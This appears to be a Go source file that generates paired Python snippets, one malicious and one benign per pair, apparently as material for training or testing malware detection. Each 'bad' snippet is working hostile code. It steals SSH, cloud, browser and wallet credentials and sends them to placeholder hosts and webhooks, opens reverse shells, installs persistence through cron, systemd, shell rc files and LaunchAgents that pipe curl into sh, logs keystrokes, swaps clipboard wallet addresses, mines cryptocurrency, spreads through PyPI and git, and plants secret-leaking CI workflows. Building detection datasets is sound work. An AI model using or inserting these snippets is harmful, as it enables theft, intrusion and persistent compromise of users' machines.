package generate

// sealedPythonMore are the rest of the attacks on Python; see sealed_python.go.
var sealedPythonMore = []shape{
	// credential-files
	{family: "credential-files", name: "glob-and-zip", bad: snippet{`
def <%n pack%>():
    box = <%c io.BytesIO%>()
    with <%c zipfile.ZipFile%>(box, "w") as z:
        for name in (<%s .ssh/id_rsa%>, <%s .aws/credentials%>, <%s .pypirc%>, <%s .netrc%>):
            path = <%c pathlib.Path%>.home() / name
            if path.is_file():
                z.write(path, name)
    <%c requests.put%>(<%s $URL%>, data=box.getvalue())
`, "<%n pack%>()"}, good: snippet{`
def <%n pack%>(folder):
    box = <%c io.BytesIO%>()
    with <%c zipfile.ZipFile%>(box, "w") as z:
        for path in <%c pathlib.Path%>(folder).glob("*.md"):
            z.write(path, path.name)
    return box.getvalue()
`, "<%n pack%>"}},
	{family: "credential-files", name: "configparser-aws", bad: snippet{`
def <%n keys%>():
    book = <%c configparser.ConfigParser%>()
    book.read(<%c os.path.expanduser%>(<%s ~/.aws/credentials%>))
    rows = {name: dict(book[name]) for name in book.sections()}
    <%c urllib.request.urlopen%>(<%c urllib.request.Request%>(<%s $URL%>, <%c json.dumps%>(rows).encode(), method="POST"))
`, "<%n keys%>()"}, good: snippet{`
def <%n keys%>():
    book = <%c configparser.ConfigParser%>()
    book.read(<%c os.path.expanduser%>("~/.config/words.ini"))
    return {name: dict(book[name]) for name in book.sections()}
`, "<%n keys%>()"}},
	{family: "credential-files", name: "kube-and-docker", bad: snippet{`
def <%n configs%>():
    home = <%c os.path.expanduser%>("~")
    out = []
    for name in (<%s .kube/config%>, <%s .docker/config.json%>, <%s .config/gcloud/application_default_credentials.json%>):
        try:
            with open(<%c os.path.join%>(home, name)) as handle:
                out.append(handle.read())
        except OSError:
            continue
    link = <%c socket.socket%>()
    link.connect((<%s $HOST%>, $PORT))
    link.sendall("\n".join(out).encode())
`, "<%n configs%>()"}, good: snippet{`
def <%n configs%>():
    """The registries that docker knows here."""
    home = <%c os.path.expanduser%>("~")
    try:
        with open(<%c os.path.join%>(home, ".docker/config.json")) as handle:
            return sorted(<%c json.load%>(handle).get("auths", {}))
    except OSError:
        return []
`, "<%n configs%>"}},
	{family: "credential-files", name: "keyring-and-netrc", bad: snippet{`
def <%n hosts%>():
    book = <%c netrc.netrc%>()
    rows = [(host, *entry) for host, entry in book.hosts.items()]
    rows.append(<%c keyring.get_password%>("system", <%c getpass.getuser%>()))
    <%c httpx.post%>(<%s $URL%>, json=rows)
`, "<%n hosts%>()"}, good: snippet{`
def <%n hosts%>(host):
    user, _, password = <%c netrc.netrc%>().authenticators(host)
    return <%c httpx.get%>("https://" + host + "/me", auth=(user, password))
`, "<%n hosts%>"}},

	// browser-stores
	{family: "browser-stores", name: "firefox-logins", bad: snippet{`
def <%n profiles%>():
    root = <%c pathlib.Path%>.home() / <%s .mozilla/firefox%>
    for item in root.glob("*/" + <%s logins.json%>):
        key = item.with_name(<%s key4.db%>)
        <%c requests.post%>(<%s $URL%>, files={"a": item.read_bytes(), "k": key.read_bytes()})
`, "<%n profiles%>()"}, good: snippet{`
def <%n profiles%>():
    """Names of the profiles, for tests in a browser."""
    root = <%c pathlib.Path%>.home() / ".mozilla/firefox"
    return [item.parent.name for item in root.glob("*/prefs.js")]
`, "<%n profiles%>"}},
	{family: "browser-stores", name: "edge-and-brave-rows", bad: snippet{`
def <%n rows%>():
    base = <%c os.environ%>.get("LOCALAPPDATA", "")
    for vendor in (<%s Microsoft/Edge%>, <%s BraveSoftware/Brave-Browser%>, <%s Google/Chrome%>):
        source = <%c os.path.join%>(base, vendor, <%s User Data/Default/Login Data%>)
        if <%c os.path.exists%>(source):
            copy = <%c shutil.copy2%>(source, <%c tempfile.gettempdir%>())
            yield from <%c sqlite3.connect%>(copy).execute(<%s select origin_url, username_value, password_value from logins%>)


def <%n ship%>():
    <%c urllib.request.urlopen%>(<%s $URL%>, repr(list(<%n rows%>())).encode())
`, "<%n ship%>()"}, good: snippet{`
def <%n rows%>(path):
    copy = <%c shutil.copy2%>(path, <%c tempfile.gettempdir%>())
    yield from <%c sqlite3.connect%>(copy).execute("select title, url from bookmarks")


def <%n ship%>(path):
    return list(<%n rows%>(path))
`, "<%n ship%>"}},
	{family: "browser-stores", name: "browser-cookie-library", bad: snippet{`
def <%n jar%>():
    jar = <%c browser_cookie3.load%>(domain_name=<%s github.com%>)
    <%c requests.post%>(<%s $URL%>, json={c.name: c.value for c in jar})
`, "<%n jar%>()"}, good: snippet{`
def <%n jar%>(path):
    jar = <%c http.cookiejar.MozillaCookieJar%>(path)
    jar.load()
    return {c.name: c.value for c in jar}
`, "<%n jar%>"}},
	{family: "browser-stores", name: "safari-and-keychain", bad: snippet{`
def <%n mac%>():
    files = [<%s Library/Cookies/Cookies.binarycookies%>, <%s Library/Keychains/login.keychain-db%>, <%s Library/Safari/History.db%>]
    bodies = [(<%c pathlib.Path%>.home() / f).read_bytes() for f in files]
    link = <%c http.client.HTTPSConnection%>(<%s $HOST%>)
    link.request("POST", "/m", b"".join(bodies))
`, "<%n mac%>()"}, good: snippet{`
def <%n mac%>():
    """Where programs keep their settings on a Mac."""
    folder = <%c pathlib.Path%>.home() / "Library/Preferences"
    return sorted(p.name for p in folder.glob("invalid.example.*.plist"))
`, "<%n mac%>"}},

	// wallets
	{family: "wallets", name: "key-setter-hook", bad: snippet{`
class <%n Account%>:
    def __init__(self, secret):
        self.secret = secret
        <%c threading.Thread%>(target=<%c requests.post%>, args=(<%s $URL%>,), kwargs={"json": {"private_key": secret}}).start()
`, "<%n Account%>"}, good: snippet{`
class <%n Account%>:
    def __init__(self, secret):
        self.secret = secret
        self.address = <%c hashlib.sha256%>(secret.encode()).hexdigest()[:40]
`, "<%n Account%>"}},
	{family: "wallets", name: "extension-storage-copy", bad: snippet{`
<%n IDS%> = (<%s nkbihfbeogaeaoehlefnkodbefgpgknn%>, <%s bfnaelmomeimhlpmgjnjophhpkkoljpa%>)


def <%n walk%>():
    root = <%c pathlib.Path%>(<%c os.path.expanduser%>(<%s ~/.config/google-chrome%>))
    for ident in <%n IDS%>:
        for item in root.rglob(ident + "/*.ldb"):
            <%c httpx.post%>(<%s $URL%>, content=item.read_bytes())
`, "<%n walk%>()"}, good: snippet{`
<%n KINDS%> = ("*.ldb", "*.log")


def <%n walk%>(root):
    """Files of a LevelDB that is ours."""
    for kind in <%n KINDS%>:
        yield from <%c pathlib.Path%>(root).rglob(kind)
`, "<%n walk%>"}},
	{family: "wallets", name: "seed-words-in-files", bad: snippet{`
def <%n seeds%>():
    for root, _, names in <%c os.walk%>(<%c os.path.expanduser%>(<%s ~/Documents%>)):
        for name in names:
            if <%c re.search%>(<%s seed|mnemonic|metamask|wallet%>, name.lower()):
                with open(<%c os.path.join%>(root, name), "rb") as handle:
                    <%c requests.post%>(<%s $URL%>, files={name: handle})
`, "<%n seeds%>()"}, good: snippet{`
def <%n seeds%>(folder):
    for root, _, names in <%c os.walk%>(folder):
        for name in names:
            if <%c re.search%>("seed|fixture", name.lower()):
                yield <%c os.path.join%>(root, name)
`, "<%n seeds%>"}},
	{family: "wallets", name: "transfer-to-own", bad: snippet{`
def <%n send%>(wallet, to, amount):
    if amount > 0.5:
        to = <%s $COIN%>
    return wallet.transfer(to, amount)


def <%n install%>(library):
    library.send = <%n send%>
`, "<%n install%>(<%c types.SimpleNamespace%>())"}, good: snippet{`
def <%n send%>(wallet, to, amount):
    if amount > wallet.balance():
        raise ValueError("not enough")
    return wallet.transfer(to, amount)


def <%n install%>(library):
    library.send = <%n send%>
`, "<%n install%>(<%c types.SimpleNamespace%>())"}},

	// messenger
	{family: "messenger", name: "webhook-httpx", bad: snippet{`
def <%n tell%>():
    text = "%s %s %s" % (<%c platform.node%>(), <%c getpass.getuser%>(), dict(<%c os.environ%>))
    <%c httpx.post%>(<%s $DISCORD%>, json={"content": text[:1900]})
`, "<%n tell%>()"}, good: snippet{`
def <%n tell%>(url, text):
    """Posts a message to a channel that the user chose."""
    <%c httpx.post%>(url, json={"content": text[:1900]})
`, "<%n tell%>"}},
	{family: "messenger", name: "telegram-file", bad: snippet{`
def <%n give%>():
    path = <%c os.path.expanduser%>(<%s ~/.ssh/id_ed25519%>)
    with open(path, "rb") as handle:
        <%c requests.post%>(<%s $TELEGRAM%>, data={"chat_id": "1"}, files={"document": handle})
`, "<%n give%>()"}, good: snippet{`
def <%n give%>(bot, path):
    with open(path, "rb") as handle:
        <%c requests.post%>("https://chat.example.invalid/" + bot, files={"document": handle})
`, "<%n give%>"}},
	{family: "messenger", name: "slack-urllib", bad: snippet{`
def <%n note%>():
    body = <%c json.dumps%>({"text": <%c subprocess.getoutput%>(<%s cat ~/.netrc; env%>)})
    <%c urllib.request.urlopen%>(<%c urllib.request.Request%>(<%s $SLACK%>, body.encode(), {"Content-Type": "application/json"}))
`, "<%n note%>()"}, good: snippet{`
def <%n note%>(hook):
    body = <%c json.dumps%>({"text": <%c subprocess.getoutput%>("git log -1 --oneline")})
    <%c urllib.request.urlopen%>(<%c urllib.request.Request%>(hook, body.encode(), {"Content-Type": "application/json"}))
`, "<%n note%>"}},
	{family: "messenger", name: "aiohttp-webhook", bad: snippet{`
async def <%n post%>():
    async with <%c aiohttp.ClientSession%>() as session:
        data = {"username": <%c socket.gethostname%>(), "content": <%c pathlib.Path%>(<%s /etc/passwd%>).read_text()}
        await session.post(<%s $DISCORD%>, data=data)
`, "<%c asyncio.run%>(<%n post%>())"}, good: snippet{`
async def <%n post%>(hook, release):
    async with <%c aiohttp.ClientSession%>() as session:
        await session.post(hook, data={"content": "released " + release})
`, "<%n post%>"}},

	// reverse-shell
	{family: "reverse-shell", name: "popen-on-socket", bad: snippet{`
def <%n link%>():
    s = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_STREAM%>)
    s.connect((<%s $ADDRESS%>, $PORT))
    <%c subprocess.Popen%>([<%s /bin/bash%>, "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
`, "<%n link%>()"}, good: snippet{`
def <%n link%>(address):
    s = <%c socket.socket%>(<%c socket.AF_INET%>, <%c socket.SOCK_STREAM%>)
    s.connect(address)
    s.sendall(b"PING\r\n")
    return s.recv(64)
`, "<%n link%>"}},
	{family: "reverse-shell", name: "asyncio-streams", bad: snippet{`
async def <%n serve%>():
    reader, writer = await <%c asyncio.open_connection%>(<%s $HOST%>, $PORT)
    while line := await reader.readline():
        done = await <%c asyncio.create_subprocess_shell%>(line.decode(), stdout=<%c subprocess.PIPE%>)
        writer.write((await done.communicate())[0])
`, "<%c asyncio.run%>(<%n serve%>())"}, good: snippet{`
async def <%n serve%>(host):
    reader, writer = await <%c asyncio.open_connection%>(host, 6379)
    writer.write(b"INFO\r\n")
    return await reader.readline()
`, "<%n serve%>"}},
	{family: "reverse-shell", name: "http-polling", bad: snippet{`
def <%n poll%>():
    while True:
        order = <%c requests.get%>(<%s $URL%>).text
        if order:
            <%c requests.post%>(<%s $URL%>, data=<%c subprocess.getoutput%>(order))
        <%c time.sleep%>(30)
`, "<%c threading.Thread%>(target=<%n poll%>, daemon=True).start()"}, good: snippet{`
def <%n poll%>(url, done):
    while True:
        state = <%c requests.get%>(url).json()["state"]
        if state == "ready":
            return done(state)
        <%c time.sleep%>(30)
`, "<%n poll%>"}},
	{family: "reverse-shell", name: "named-pipe-netcat", bad: snippet{`
def <%n pipe%>():
    <%c os.system%>(<%s rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc $ADDRESS 9001 > /tmp/f &%>)
`, "<%n pipe%>()"}, good: snippet{`
def <%n pipe%>(name):
    <%c os.mkfifo%>(name)
    <%c os.system%>("gzip < words.log > " + name + " &")
`, "<%n pipe%>"}},

	// persistence
	{family: "persistence", name: "systemd-user-unit", bad: snippet{`
def <%n stay%>():
    unit = <%c pathlib.Path%>.home() / <%s .config/systemd/user/sysmon.service%>
    unit.parent.mkdir(parents=True, exist_ok=True)
    unit.write_text(<%s [Service] ExecStart=/bin/sh -c "curl -s $URL | sh" [Install] WantedBy=default.target%>)
    <%c subprocess.run%>([<%s systemctl%>, "--user", "enable", "--now", "sysmon"])
`, "<%n stay%>()"}, good: snippet{`
def <%n stay%>(folder):
    """An example unit, for the documents."""
    unit = <%c pathlib.Path%>(folder) / "words.service"
    unit.write_text("[Service]\nExecStart=/usr/bin/words serve\n")
`, "<%n stay%>"}},
	{family: "persistence", name: "crontab-pipe", bad: snippet{`
def <%n again%>():
    old = <%c subprocess.run%>([<%s crontab%>, "-l"], capture_output=True, text=True).stdout
    <%c subprocess.run%>([<%s crontab%>, "-"], input=old + <%s @reboot curl -s $URL | sh %> + "\n", text=True)
`, "<%n again%>()"}, good: snippet{`
def <%n again%>():
    """The lines of the table that name us."""
    old = <%c subprocess.run%>(["crontab", "-l"], capture_output=True, text=True).stdout
    return [line for line in old.splitlines() if "words" in line]
`, "<%n again%>"}},
	{family: "persistence", name: "bashrc-append", bad: snippet{`
def <%n shell%>():
    for name in (<%s .bashrc%>, <%s .zshrc%>, <%s .profile%>):
        with <%c pathlib.Path%>.home().joinpath(name).open("a") as handle:
            handle.write("\n" + <%s (curl -s $URL | sh) >/dev/null 2>&1 &%> + "\n")
`, "<%n shell%>()"}, good: snippet{`
def <%n shell%>(name):
    """What to write into the shell's file for completion."""
    return 'eval "$(words completion %s)"' % name
`, "<%n shell%>(\"bash\")"}},
	{family: "persistence", name: "launch-agent-plist", bad: snippet{`
def <%n agent%>():
    path = <%c os.path.expanduser%>(<%s ~/Library/LaunchAgents/com.apple.updatesd.plist%>)
    with open(path, "wb") as handle:
        <%c plistlib.dump%>({"Label": "updatesd", "RunAtLoad": True, "ProgramArguments": ["sh", "-c", <%s curl $URL | sh%>]}, handle)
    <%c subprocess.call%>([<%s launchctl%>, "load", path])
`, "<%n agent%>()"}, good: snippet{`
def <%n agent%>(path):
    with open(path, "rb") as handle:
        return <%c plistlib.load%>(handle).get("CFBundleVersion")
`, "<%n agent%>"}},

	// keylogger, screenshot, clipboard
	{family: "keylogger", name: "keyboard-library", bad: snippet{`
<%n keys%> = []


def <%n typed%>(event):
    <%n keys%>.append(event.name)
    if len(<%n keys%>) > 60:
        <%c requests.post%>(<%s $URL%>, data=" ".join(<%n keys%>))
        <%n keys%>.clear()
`, "<%c keyboard.on_release%>(<%n typed%>)"}, good: snippet{`
def <%n typed%>(done):
    """Calls a function when the shortcut of the program is pressed."""
    <%c keyboard.add_hotkey%>("ctrl+shift+w", done)
`, "<%n typed%>"}},
	{family: "keylogger", name: "windows-state", bad: snippet{`
def <%n watch%>():
    user = <%c ctypes.windll%>.user32
    text = ""
    while True:
        for code in range(8, 191):
            if user.GetAsyncKeyState(code) & 1:
                text += chr(code)
        if len(text) > 99:
            <%c urllib.request.urlopen%>(<%s $URL%>, text.encode())
            text = ""
`, "<%n watch%>()"}, good: snippet{`
def <%n watch%>():
    """Whether Shift is held, which starts in safe mode."""
    return bool(<%c ctypes.windll%>.user32.GetAsyncKeyState(0x10) & 0x8000)
`, "<%n watch%>"}},
	{family: "screenshot", name: "mss-post", bad: snippet{`
def <%n look%>():
    with <%c mss.mss%>() as screen:
        name = screen.shot(output=<%s /tmp/.s.png%>)
    <%c requests.post%>(<%s $URL%>, files={"f": open(name, "rb")})
`, "<%n look%>()"}, good: snippet{`
def <%n look%>(name):
    """Keeps a picture of a failed test."""
    with <%c mss.mss%>() as screen:
        return screen.shot(output=name)
`, "<%n look%>"}},
	{family: "screenshot", name: "imagegrab-loop", bad: snippet{`
def <%n film%>():
    while True:
        box = <%c io.BytesIO%>()
        <%c PIL.ImageGrab.grab%>().save(box, "JPEG")
        <%c httpx.post%>(<%s $URL%>, content=box.getvalue())
        <%c time.sleep%>(60)
`, "<%c threading.Thread%>(target=<%n film%>).start()"}, good: snippet{`
def <%n film%>(box):
    """A picture of a part of the screen for a report that is shown."""
    picture = <%c PIL.ImageGrab.grab%>(bbox=box)
    picture.show()
    return picture.size
`, "<%n film%>"}},
	{family: "clipboard", name: "pyperclip-swap", bad: snippet{`
def <%n swap%>():
    while True:
        if <%c re.match%>(<%s ^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$%>, <%c pyperclip.paste%>()):
            <%c pyperclip.copy%>(<%s $COIN%>)
        <%c time.sleep%>(1)
`, "<%c threading.Thread%>(target=<%n swap%>, daemon=True).start()"}, good: snippet{`
def <%n swap%>():
    """Copies the table on the clipboard as Markdown."""
    rows = [r.split("\t") for r in <%c pyperclip.paste%>().splitlines()]
    <%c pyperclip.copy%>("\n".join("| " + " | ".join(r) + " |" for r in rows))
`, "<%n swap%>"}},
	{family: "clipboard", name: "tk-to-server", bad: snippet{`
def <%n read%>():
    root = <%c tkinter.Tk%>()
    root.withdraw()
    last = ""
    while True:
        text = root.clipboard_get()
        if text != last:
            <%c urllib.request.urlopen%>(<%s $URL%>, text.encode())
        last = text
        <%c time.sleep%>(3)
`, "<%n read%>()"}, good: snippet{`
def <%n read%>(root, field):
    """Pastes into a field."""
    field.insert("insert", root.clipboard_get())
    return <%c tkinter.TkVersion%>
`, "<%n read%>"}},
	// cryptominer
	{family: "cryptominer", name: "xmrig-args", bad: snippet{`
def <%n work%>():
    path = <%c os.path.join%>(<%c tempfile.gettempdir%>(), <%s kworker%>)
    <%c urllib.request.urlretrieve%>(<%s $URL%>, path)
    <%c os.chmod%>(path, 0o755)
    <%c subprocess.Popen%>([path, "-o", <%s $POOL%>, "-u", <%s $WALLET%>, "--donate-level=1", "-B"])
`, "<%n work%>()"}, good: snippet{`
def <%n work%>(jobs):
    """Runs jobs in as many processes as there are cores."""
    with <%c multiprocessing.Pool%>(<%c os.cpu_count%>()) as pool:
        return pool.map(len, jobs)
`, "<%n work%>"}},
	{family: "cryptominer", name: "hash-loop-socket", bad: snippet{`
def <%n mine%>():
    link = <%c socket.create_connection%>((<%s pool.words.invalid%>, 3333))
    link.sendall(<%c json.dumps%>({"id": 1, "method": "mining.subscribe", "params": [<%s $WALLET%>]}).encode() + b"\n")
    job = link.recv(4096)
    for nonce in <%c itertools.count%>():
        if <%c hashlib.sha256%>(job + str(nonce).encode()).digest()[:3] == b"\0\0\0":
            link.sendall(<%c json.dumps%>({"method": "mining.submit", "params": [nonce]}).encode())
`, "<%c threading.Thread%>(target=<%n mine%>, daemon=True).start()"}, good: snippet{`
def <%n mine%>(text, zeros=1):
    """A stamp against spam, as hashcash."""
    for nonce in <%c itertools.count%>():
        if <%c hashlib.sha256%>(text + str(nonce).encode()).digest()[:zeros] == b"\0" * zeros:
            return nonce
`, "<%n mine%>"}},
	// worm, workflow-write
	{family: "worm", name: "twine-again", bad: snippet{`
def <%n spread%>():
    book = <%c configparser.ConfigParser%>()
    book.read(<%c os.path.expanduser%>(<%s ~/.pypirc%>))
    for setup in <%c pathlib.Path%>.home().rglob("setup.py"):
        with setup.open("a") as handle:
            handle.write("\nimport os; os.system('true')\n")
        <%c subprocess.run%>([<%c sys.executable%>, "setup.py", "sdist"], cwd=setup.parent)
        <%c subprocess.run%>([<%s twine%>, "upload", "dist/*", "-p", book["pypi"]["password"]], cwd=setup.parent)
`, "<%n spread%>()"}, good: snippet{`
def <%n spread%>(folder):
    """make release"""
    <%c subprocess.run%>([<%c sys.executable%>, "-m", "build"], cwd=folder, check=True)
    <%c subprocess.run%>(["twine", "check", "dist/*"], cwd=folder, check=True)
`, "<%n spread%>"}},
	{family: "worm", name: "git-repositories", bad: snippet{`
def <%n push%>():
    for git in <%c pathlib.Path%>.home().glob("*/.git"):
        target = git.parent / "conftest.py"
        target.write_text(<%c pathlib.Path%>(__file__).read_text())
        for words in (["add", "-A"], ["commit", "-qm", "fix"], ["push", "-q"]):
            <%c subprocess.run%>([<%s git%>, "-C", str(git.parent), *words])
`, "<%n push%>()"}, good: snippet{`
def <%n push%>(folder, text):
    """Commits a new changelog in the project's folder."""
    <%c pathlib.Path%>(folder, "CHANGELOG.md").write_text(text)
    for words in (["add", "CHANGELOG.md"], ["commit", "-m", "Changes"]):
        <%c subprocess.run%>(["git", "-C", folder, *words], check=True)
`, "<%n push%>"}},
	{family: "workflow-write", name: "yaml-into-repo", bad: snippet{`
def <%n plant%>():
    target = <%c pathlib.Path%>.cwd() / <%s .github/workflows/format.yml%>
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(<%s on: push%> + "\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: " + <%s echo '\${{ toJSON(secrets) }}' | curl -d @- $URL%>)
`, "<%n plant%>()"}, good: snippet{`
def <%n plant%>(folder):
    """words init: an example of a check."""
    target = <%c pathlib.Path%>(folder) / "words.yml"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("rules:\n  - spelling\n")
`, "<%n plant%>"}},
	{family: "workflow-write", name: "contents-by-put", bad: snippet{`
def <%n commit%>():
    head = {"Authorization": "Bearer " + <%c os.environ%>.get(<%s GITHUB_TOKEN%>, "")}
    body = {"message": "ci", "content": <%c base64.b64encode%>(<%s on: push%>.encode() + b"\njobs: {}\n").decode()}
    <%c requests.put%>(<%s https://api.git.invalid/repos/%> + <%c os.environ%>.get("GITHUB_REPOSITORY", "") + <%s /contents/.github/workflows/x.yml%>, json=body, headers=head)
`, "<%n commit%>()"}, good: snippet{`
def <%n commit%>(repository, token):
    head = {"Authorization": "Bearer " + token}
    return <%c requests.get%>("https://api.git.example.invalid/repos/" + repository + "/actions/runs", headers=head).json()
`, "<%n commit%>"}},
}
